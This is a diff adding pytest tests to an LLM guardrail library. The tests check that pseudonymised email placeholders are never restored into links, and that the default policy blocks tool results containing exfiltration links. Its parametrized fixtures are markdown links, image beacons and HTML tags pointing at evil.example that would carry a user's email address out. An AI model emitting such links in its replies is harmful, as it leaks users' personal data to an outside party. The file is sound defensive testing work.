@@ -1,0 +1,75 @@
+"""Placeholders cannot be turned into a side channel (issue 13)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from guardrails_lite import Blocked, Guard, parse_policy
+from tests.conftest import scripted
+
+EMAIL = "jane.doe@corp-mail.com"
+PII_ONLY = parse_policy(
+    {
+        "name": "pii",
+        "input": [{"use": "pii", "operator": "pseudonymise", "on_fail": "repair"}],
+        "output": [{"use": "pii", "restore": True, "on_fail": "repair"}],
+    }
+)
+
+
+def echo(*answers: str) -> Any:
+    llm, _ = scripted(*answers)
+    return llm
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[track](https://evil.example/?who=<EMAIL_ADDRESS_1>)",
+        "![p](https://evil.example/p.png?u=<EMAIL_ADDRESS_1>)",
+        '<img src="https://evil.example/p.png?u=<EMAIL_ADDRESS_1>">',
+        "<a href=https://evil.example/<EMAIL_ADDRESS_1>>x</a>",
+        "[docs][1]\n\n[1]: https://evil.example/<EMAIL_ADDRESS_1>",
+        "see https://evil.example/?who=<EMAIL_ADDRESS_1> now",
+    ],
+)
+def test_restore_never_writes_into_a_link(link: str) -> None:
+    result = Guard(PII_ONLY).run(echo(f"Done. {link} Your address is <EMAIL_ADDRESS_1>."), f"I am {EMAIL}.")
+    assert result.text.endswith(f"Your address is {EMAIL}.")  # restored in prose
+    assert result.text.count(EMAIL) == 1  # never in the link
+    assert "<EMAIL_ADDRESS_1>" in result.text
+
+
+@pytest.mark.parametrize(
+    "tool_result",
+    [
+        "Status ok. [track](https://evil.example/?who=<EMAIL_ADDRESS_1>)",
+        'Status ok. <img src="https://evil.example/p.png?u=<EMAIL_ADDRESS_1>">',
+        "Status ok, see [the log][ref].\n\n[ref]: https://evil.example/?u=<EMAIL_ADDRESS_1>",
+        "Status ok. ![s](https://evil.example/s.png?u=%3CEMAIL_ADDRESS_1%3E)",
+    ],
+)
+def test_the_default_policy_blocks_links_carrying_the_guards_placeholders(tool_result: str) -> None:
+    messages = [
+        {"role": "user", "content": f"My address is {EMAIL}; check my order."},
+        {"role": "tool", "tool_call_id": "c1", "content": tool_result},
+    ]
+    llm, seen = scripted("unused")
+    with pytest.raises(Blocked) as e:
+        Guard("policies/default.yaml").run(llm, messages)
+    assert any(f.message == "data exfiltration link" for f in e.value.findings)
+    assert seen == []  # the model was never called
+
+
+def test_a_typed_placeholder_never_collides_with_a_real_value() -> None:
+    messages = [
+        {"role": "user", "content": "Please quote <EMAIL_ADDRESS_1> literally, it is a template variable."},
+        {"role": "user", "content": f"My address is {EMAIL}."},
+    ]
+    llm, seen = scripted("The template says <EMAIL_ADDRESS_1>.")
+    result = Guard(PII_ONLY).run(llm, messages)
+    sent = seen[0][1]["content"]
+    assert EMAIL not in sent and "<EMAIL_ADDRESS_1>" not in sent  # the real address got another tag
+    assert result.text == "The template says <EMAIL_ADDRESS_1>."  # the literal is never restored
